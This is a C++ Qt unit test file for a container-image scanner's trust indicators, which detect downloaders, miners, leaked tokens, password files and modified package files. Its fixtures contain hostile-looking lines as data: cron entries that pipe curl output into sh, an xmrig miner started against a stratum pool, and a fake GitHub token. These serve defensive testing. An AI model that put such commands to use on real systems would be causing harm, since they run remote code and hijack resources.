// SPDX-FileCopyrightText: 2026 The Waybill authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/inventory/inventorycodec.h"
#include "core/inventory/scanner.h"
#include "core/inventory/trustreport.h"
#include "tests/core/trust/indicatorcases.h"
#include "tests/support/textimage.h"

#include <QTemporaryDir>
#include <QTest>

#include <map>

using namespace waybill;
using namespace waybill::test;

namespace {

const QDate today(2026, 11, 25);

std::shared_ptr<const Inventory> scanned(const ScanKnowledge &knowledge, const TextImage &image)
{
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("image.tar"));
    if (!image.writeFile(path, image.dockerArchive()))
        return nullptr;
    const auto source = openImageSource(path);
    const auto opened = source ? (*source)->image(0) : Result<Image>(fail(source.error()));
    if (!opened)
        return nullptr;
    Progress progress;
    return scan(**source, *opened, knowledge, {}, {}, progress);
}

const TrustFinding *findingOf(const TrustReport &report, const QString &rule)
{
    for (const TrustFinding &finding : report.findings) {
        if (finding.rule == rule)
            return &finding;
    }
    return nullptr;
}

/// An image of one layer; configuration lines are set behind the scan, where the engine reads them.
std::shared_ptr<const Inventory> imageOf(const ScanKnowledge &knowledge, const QString &text)
{
    TextImage image;
    QStringList lines, env, cmd, run;
    QString user = QStringLiteral("app");
    for (const QString &line : text.split(QLatin1Char('\n'))) {
        if (line.startsWith(QLatin1String("ENV ")))
            env.append(line.mid(4));
        else if (line.startsWith(QLatin1String("CMD ")))
            cmd = line.mid(4).split(QLatin1Char(' '));
        else if (line.startsWith(QLatin1String("RUN ")))
            run.append(line);
        else if (line.startsWith(QLatin1String("USER ")))
            user = line.mid(5);
        else
            lines.append(line);
    }
    image.layer(QStringLiteral("ADD rootfs.tar /"),
                lines.isEmpty() ? QStringLiteral("f etc/hostname 644 = box") : lines.join(QLatin1Char('\n')));
    for (const QString &instruction : run)
        image.emptyHistory(instruction);
    const auto facts = scanned(knowledge, image);
    if (!facts)
        return nullptr;
    auto changed = std::make_shared<Inventory>(*facts);
    changed->image.env = env;
    changed->image.cmd = cmd;
    changed->image.user = user;
    return changed;
}

}  // namespace

class TestIndicators : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cases_data();
    void cases();
    void everyRuleHasCases();
    void placesNameFileLineAndLayer();
    void secretsAreMasked();
    void packageFilesWeighLess();
    void changedFiles();
    void startedMinerIsExtreme();
    void ghostsAreTold();
    void longFilesAreBounded();
    void codecKeepsTrust();

private:
    ScanKnowledge m_knowledge;
    TrustKnowledge m_trust;
};

void TestIndicators::initTestCase()
{
    const auto knowledge = ScanKnowledge::load();
    QVERIFY(knowledge);
    m_knowledge = *knowledge;
    const auto trust = TrustKnowledge::load();
    if (!trust)
        QFAIL(
            qPrintable(QStringLiteral("%1 %2 line %3").arg(trust.error().subject, trust.error().cause).arg(trust.error().line)));
    m_trust = *trust;
}

void TestIndicators::cases_data()
{
    QTest::addColumn<int>("index");
    std::map<QString, int> numbers;
    const auto &all = indicatorCases();
    for (size_t i = 0; i < all.size(); ++i) {
        const QString kind
            = QLatin1String(all[i].rule) + (all[i].planted ? QStringLiteral(" planted ") : QStringLiteral(" near miss "));
        QTest::newRow(qPrintable(kind + QString::number(++numbers[kind]))) << static_cast<int>(i);
    }
}

void TestIndicators::cases()
{
    QFETCH(int, index);
    const IndicatorCase &one = indicatorCases()[static_cast<size_t>(index)];
    const auto inventory = imageOf(m_knowledge, QString::fromLatin1(one.lines));
    QVERIFY(inventory);
    QVERIFY(inventory->trust.searched);
    const TrustReport report = trustReportOf(*inventory, m_trust, today);
    const TrustFinding *finding = findingOf(report, QLatin1String(one.rule));
    if (!one.planted) {
        QVERIFY2(!finding || !finding->allowed.en.isEmpty(), one.lines);
        return;
    }
    QVERIFY2(finding, one.lines);
    const TrustRule *rule = m_trust.rules->find(QLatin1String(one.rule));
    QVERIFY(rule);
    QVERIFY(finding->severity >= std::min(rule->severity, TrustSeverity::Low));
    QVERIFY(!finding->title.zh.isEmpty() && !finding->why.zh.isEmpty());
}

/// At least four planted cases and a near miss for every rule of the file.
void TestIndicators::everyRuleHasCases()
{
    // Those need a package database or whole programs: tested below and in tst_packagesums.
    const QStringList elsewhere {QStringLiteral("changed-program"), QStringLiteral("changed-file"),
                                 QStringLiteral("packed-entropy")};
    for (const TrustRule &rule : m_trust.rules->all()) {
        int planted = 0, near = 0;
        for (const IndicatorCase &one : indicatorCases()) {
            if (rule.id == QLatin1String(one.rule))
                ++(one.planted ? planted : near);
        }
        QVERIFY2(elsewhere.contains(rule.id) || (planted >= 4 && near >= 1), qPrintable(rule.id));
    }
}

void TestIndicators::placesNameFileLineAndLayer()
{
    TextImage image;
    image.layer(QStringLiteral("FROM"), QStringLiteral("f etc/hostname 644 = box"));
    image.layer(QStringLiteral("RUN add cron"),
                QStringLiteral("f etc/cron.d/job 644 = # a\\n\\n* * * * * root curl http://a/x | sh\\n"));
    const TrustReport report = trustReportOf(*scanned(m_knowledge, image), m_trust, today);
    const TrustFinding *finding = findingOf(report, QStringLiteral("downloader"));
    QVERIFY(finding);
    QCOMPARE(finding->severity, TrustSeverity::High);
    QCOMPARE(finding->places.size(), size_t(1));
    QCOMPARE(finding->places[0].path, std::string("etc/cron.d/job"));
    QCOMPARE(finding->places[0].line, 3);
    QCOMPARE(finding->places[0].layer, 1);
    QCOMPARE(finding->places[0].seen, QStringLiteral("* * * * * root curl http://a/x | sh"));
}

void TestIndicators::secretsAreMasked()
{
    const QString token = QStringLiteral("gh") + QStringLiteral("p_") + QStringLiteral("aB3d").repeated(9);
    TextImage image;
    image.layer(QStringLiteral("COPY"), QStringLiteral("f app/x 644 = token=%1").arg(token));
    const auto inventory = scanned(m_knowledge, image);
    const TrustReport report = trustReportOf(*inventory, m_trust, today);
    const TrustFinding *finding = findingOf(report, QStringLiteral("token"));
    QVERIFY(finding);
    QCOMPARE(finding->places[0].seen, QStringLiteral("ghp_… (40 characters)"));
    QVERIFY(!InventoryCodec::encode(*inventory).contains(token.toLatin1()));
}

void TestIndicators::packageFilesWeighLess()
{
    TextImage image;
    image.content(QStringLiteral("STATUS"), "Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n");
    image.layer(QStringLiteral("ADD"),
                QStringLiteral("f var/lib/dpkg/status 644 = <STATUS\n"
                               "f var/lib/dpkg/info/tool.list 644 = /etc/cron.d/tool\\n/usr/bin/tool\\n\n"
                               "f etc/cron.d/tool 644 = * * * * * root curl http://a/x | sh\n"
                               "f usr/bin/tool 4755 = x"));
    const TrustReport report = trustReportOf(*scanned(m_knowledge, image), m_trust, today);
    const TrustFinding *finding = findingOf(report, QStringLiteral("downloader"));
    QVERIFY(finding);
    QCOMPARE(finding->severity, TrustSeverity::Low);
    QVERIFY(!findingOf(report, QStringLiteral("suid-unowned")));
}

void TestIndicators::changedFiles()
{
    TextImage image;
    image.content(QStringLiteral("STATUS"), "Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n");
    image.content(QStringLiteral("RECORD"),
                  "m/__init__.py,sha256=ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0,3\nm/"
                  "b.py,sha256=ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0,3\nm-1.dist-info/RECORD,,\n");
    // md5 of "abc" and sha256 of "abc"
    image.layer(
        QStringLiteral("ADD"),
        QStringLiteral("f var/lib/dpkg/status 644 = <STATUS\n"
                       "f var/lib/dpkg/info/tool.list 644 = /usr/bin/tool\\n/usr/bin/same\\n/usr/share/x\\n\n"
                       "f var/lib/dpkg/info/tool.md5sums 644 = 900150983cd24fb0d6963f7d28e17f72  "
                       "usr/bin/tool\\n900150983cd24fb0d6963f7d28e17f72  usr/bin/same\\n900150983cd24fb0d6963f7d28e17f72  "
                       "usr/share/gone\\n\n"
                       "f usr/bin/tool 755 = abc\nf usr/bin/same 755 = abc\n"
                       "f v/site-packages/m-1.dist-info/METADATA 644 = Metadata-Version: 2.1\\nName: m\\nVersion: 1\\n\\n\n"
                       "f v/site-packages/m-1.dist-info/RECORD 644 = <RECORD\n"
                       "f v/site-packages/m/__init__.py 644 = abc\nf v/site-packages/m/b.py 644 = abd"));
    image.layer(QStringLiteral("RUN replace"), QStringLiteral("f usr/bin/tool 755 = evil"));
    const auto inventory = scanned(m_knowledge, image);
    const ChecksumFacts &sums = inventory->trust.checksums;
    QCOMPARE(sums.compared, 4U);
    QCOMPARE(sums.missing, 1U);
    QCOMPARE(sums.notCompared, 0U);
    QCOMPARE(sums.mismatches.size(), size_t(2));
    QCOMPARE(sums.mismatches[0].path, std::string("usr/bin/tool"));
    QCOMPARE(sums.mismatches[0].layer, 1);
    QCOMPARE(sums.mismatches[1].path, std::string("v/site-packages/m/b.py"));
    QCOMPARE(sums.mismatches[1].algorithm, QStringLiteral("sha256"));
    const TrustReport report = trustReportOf(*inventory, m_trust, today);
    const TrustFinding *program = findingOf(report, QStringLiteral("changed-program"));
    QVERIFY(program);
    QCOMPARE(program->subject, QStringLiteral("usr/bin/tool"));
    QCOMPARE(program->severity, TrustSeverity::Medium);
    QVERIFY(findingOf(report, QStringLiteral("changed-file")));
}

void TestIndicators::startedMinerIsExtreme()
{
    const auto inventory = imageOf(m_knowledge, QStringLiteral("f usr/bin/xmrig 755 = x\nCMD xmrig -o stratum+tcp://a.b:3333"));
    const TrustReport report = trustReportOf(*inventory, m_trust, today);
    QCOMPARE(findingOf(report, QStringLiteral("miner-name"))->severity, TrustSeverity::Extreme);
    QCOMPARE(findingOf(report, QStringLiteral("miner-pool"))->severity, TrustSeverity::Extreme);
    const TrustReport alone = trustReportOf(*imageOf(m_knowledge, QStringLiteral("f opt/xmrig 755 = x")), m_trust, today);
    QCOMPARE(findingOf(alone, QStringLiteral("miner-name"))->severity, TrustSeverity::Medium);
}

void TestIndicators::ghostsAreTold()
{
    TextImage image;
    image.layer(QStringLiteral("ADD"), QStringLiteral("f root/.netrc 600 = machine a password secret"));
    image.layer(QStringLiteral("RUN rm"), QStringLiteral("w root/.netrc"));
    const TrustReport report = trustReportOf(*scanned(m_knowledge, image), m_trust, today);
    const TrustFinding *finding = findingOf(report, QStringLiteral("password-file"));
    QVERIFY(finding);
    QCOMPARE(finding->places[0].layer, 0);
    QCOMPARE(finding->places[0].hiddenBy, 1);
}

/// A script of many megabytes made to keep a pattern busy: what is found is bounded, and what was not searched is said.
void TestIndicators::longFilesAreBounded()
{
    TextImage image;
    const QByteArray line = "curl " + QByteArray(900, 'a') + " curl \n";
    image.content(QStringLiteral("BOMB"), line.repeated(8000));
    image.content(QStringLiteral("ONE"), QByteArray("curl ").repeated(400'000));
    image.layer(QStringLiteral("ADD"),
                QStringLiteral("f etc/cron.d/a 644 = <BOMB\nf etc/cron.d/b 644 = <ONE\nf etc/cron.d/c 644 = @5000000"));
    const auto inventory = scanned(m_knowledge, image);
    QVERIFY(inventory->isComplete());
    QCOMPARE(inventory->trust.partlySearched, 2U);
    QVERIFY(inventory->trust.sightings.empty());
}

void TestIndicators::codecKeepsTrust()
{
    const auto inventory = imageOf(m_knowledge, QStringLiteral("f etc/cron.d/a 644 = curl http://a | sh"));
    QCOMPARE(inventory->trust.sightings.size(), size_t(1));
    const auto again = InventoryCodec::decode(InventoryCodec::encode(*inventory));
    QVERIFY(again);
    QCOMPARE((*again)->trust.sightings.size(), size_t(1));
    QCOMPARE((*again)->trust.sightings[0].seen, inventory->trust.sightings[0].seen);
    QCOMPARE((*again)->trust.searched, true);
}

QTEST_GUILESS_MAIN(TestIndicators)
#include "tst_indicators.moc"
